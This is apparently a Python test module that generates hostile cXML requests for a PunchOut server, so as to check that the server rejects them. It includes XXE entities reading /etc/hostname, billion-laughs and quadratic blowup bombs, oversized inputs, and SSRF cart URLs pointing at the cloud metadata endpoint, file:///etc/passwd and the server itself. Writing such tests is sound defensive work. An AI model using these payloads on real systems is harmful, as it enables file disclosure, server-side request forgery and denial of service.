"""Hostile documents that are too large, or too much about this server, for a file.

Each is a function of the inbox (whose credentials it bears, where that makes it worse)
and of the address of a trap: a socket that must never see a connection.
"""

from amazon import payload_id

CASES = {}
HEAD = (
    "<Header><From>{0}</From><To>{0}</To>"
    "<Sender><Credential domain='NetworkId'><Identity>{1}</Identity>"
    "<SharedSecret>{2}</SharedSecret></Credential><UserAgent>x</UserAgent></Sender>"
    "</Header>"
)


def answers(http, code):
    """Register a document with the answer that design §5 names for it."""

    def register(make):
        CASES[make.__name__] = (make, http, code)
        return make

    return register


def cxml(inbox, content, before="", attributes=""):
    """A document with the right credentials."""
    party = "<Credential domain='NetworkId'><Identity>{}</Identity></Credential>"
    head = HEAD.format(party.format(inbox.identity), inbox.identity, inbox.secret)
    return (
        f"<?xml version='1.0' encoding='UTF-8'?>{before}"
        f"<cXML payloadID='{payload_id()}' timestamp='2026-11-20T10:00:00Z'{attributes}>"
        f"{head}<Request>{content}</Request></cXML>"
    )


def setup(inbox, poom_url, before=""):
    content = "<Extrinsic name='UserEmail'>employee@example.com</Extrinsic>"
    content += f"<Extrinsic name='PoomUrl'>{poom_url}</Extrinsic>"
    return cxml(
        inbox, f"<PunchOutSetupRequest>{content}</PunchOutSetupRequest>", before
    )


# Not a document ----------------------------------------------------------------------


@answers(200, 400)
def empty(inbox, trap):
    return b""


@answers(200, 400)
def white_space(inbox, trap):
    return b" \r\n\t" * 100_000


@answers(200, 400)
def html_page(inbox, trap):
    return b"<!DOCTYPE html><html><body><h1>Sign in</h1><br></body></html>"


@answers(200, 400)
def wrong_root(inbox, trap):
    return cxml(inbox, "<ProfileRequest/>").replace("cXML", "dXML").encode()


@answers(200, 400)
def truncated(inbox, trap):
    return cxml(inbox, "<ProfileRequest/>").encode()[:-9]


@answers(200, 400)
def no_request(inbox, trap):
    return b"<cXML payloadID='1' timestamp='2026-11-20T10:00:00Z'/>"


@answers(200, 400)
def nul_bytes(inbox, trap):
    return cxml(inbox, "<ProfileRequest/>\0").encode()


@answers(200, 400)
def random_bytes(inbox, trap):
    return bytes(range(256)) * 4096


@answers(200, 400)
def bad_utf_8(inbox, trap):
    return cxml(inbox, "<ProfileRequest/>").encode().replace(b"Profile", b"Pro\xff")


@answers(200, 400)
def utf_7(inbox, trap):
    text = cxml(inbox, "<ProfileRequest/>").replace("UTF-8", "UTF-7")
    return text.encode()


@answers(200, 400)
def utf_32(inbox, trap):
    return cxml(inbox, "<ProfileRequest/>").encode("utf-32")


@answers(200, 200)
def utf_16(inbox, trap):
    """Not hostile at all: XML like any other (design §5)."""
    text = cxml(inbox, "<ProfileRequest/>").replace("UTF-8", "UTF-16")
    return text.encode("utf-16")


# Entities ----------------------------------------------------------------------------


@answers(200, 400)
def billion_laughs(inbox, trap):
    steps = "".join(
        f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" if n else "<!ENTITY l0 'lol'>"
        for n in range(10)
    )
    return setup(inbox, "&l9;", f"<!DOCTYPE cXML [{steps}]>").encode()


@answers(200, 400)
def quadratic_blowup(inbox, trap):
    entity = f"<!DOCTYPE cXML [<!ENTITY a '{'a' * 50_000}'>]>"
    return setup(inbox, "&a;" * 50_000, entity).encode()


@answers(200, 400)
def entity_over_http(inbox, trap):
    entity = f"<!DOCTYPE cXML [<!ENTITY x SYSTEM 'http://{trap}/x'>]>"
    return setup(inbox, "&x;", entity).encode()


@answers(200, 400)
def entity_of_a_file(inbox, trap):
    entity = "<!DOCTYPE cXML [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>"
    return setup(inbox, "&x;", entity).encode()


@answers(200, 400)
def parameter_entity(inbox, trap):
    entity = f"<!DOCTYPE cXML [<!ENTITY % x SYSTEM 'http://{trap}/x.dtd'> %x;]>"
    return setup(inbox, "x", entity).encode()


@answers(200, 200)
def external_dtd(inbox, trap):
    """The plain DOCTYPE that Amazon sends, never loaded (protocol §0)."""
    doctype = f"<!DOCTYPE cXML SYSTEM 'http://{trap}/cXML.dtd'>"
    return cxml(inbox, "<ProfileRequest/>", doctype).encode()


@answers(200, 200)
def links_that_nobody_follows(inbox, trap):
    style = f"<?xml-stylesheet type='text/xsl' href='http://{trap}/x.xsl'?>"
    include = "<i:include xmlns:i='http://www.w3.org/2001/XInclude' "
    include += f"href='http://{trap}/x.xml'/>"
    schema = " xmlns:s='http://www.w3.org/2001/XMLSchema-instance' "
    schema += f"s:noNamespaceSchemaLocation='http://{trap}/x.xsd'"
    content = f"<ProfileRequest>{include}</ProfileRequest>"
    return cxml(inbox, content, style, schema).encode()


# Size --------------------------------------------------------------------------------


@answers(413, 400)
def twenty_megabytes(inbox, trap):
    return cxml(inbox, f"<ProfileRequest>{'x' * 20_000_000}</ProfileRequest>").encode()


@answers(200, 400)
def many_elements(inbox, trap):
    return cxml(
        inbox, f"<ProfileRequest>{'<a/>' * 1_200_000}</ProfileRequest>"
    ).encode()


@answers(200, 400)
def hundred_thousand_levels(inbox, trap):
    inside = "<a>" * 100_000 + "</a>" * 100_000
    return cxml(inbox, f"<ProfileRequest>{inside}</ProfileRequest>").encode()


@answers(200, 400)
def hundred_thousand_attributes(inbox, trap):
    inside = " ".join(f"a{n}='1'" for n in range(100_000))
    return cxml(inbox, f"<ProfileRequest {inside}/>").encode()


@answers(200, 400)
def many_namespaces(inbox, trap):
    inside = " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(100_000))
    return cxml(inbox, f"<ProfileRequest {inside}/>").encode()


@answers(200, 400)
def endless_name(inbox, trap):
    return f"<{'a' * 4_000_000}".encode()


@answers(200, 400)
def endless_comment(inbox, trap):
    return b"<cXML><!--" + b"-" * 4_000_000


@answers(200, 400)
def endless_doctype(inbox, trap):
    return b"<!DOCTYPE cXML SYSTEM '" + b"a" * 4_000_000


# Where the cart shall be fetched -----------------------------------------------------


@answers(200, 400)
def cart_at_the_trap(inbox, trap):
    return setup(inbox, f"http://{trap}/cart").encode()


@answers(200, 400)
def cart_behind_a_name(inbox, trap):
    return setup(inbox, f"https://www.amazon.com@{trap}/cart").encode()


@answers(200, 400)
def cart_at_the_metadata_service(inbox, trap):
    return setup(inbox, "http://169.254.169.254/latest/meta-data/").encode()


@answers(200, 400)
def cart_in_a_file(inbox, trap):
    return setup(inbox, "file:///etc/passwd").encode()


@answers(200, 400)
def cart_at_odoo_itself(inbox, trap):
    return setup(inbox, inbox.url.rpartition("/")[0]).encode()
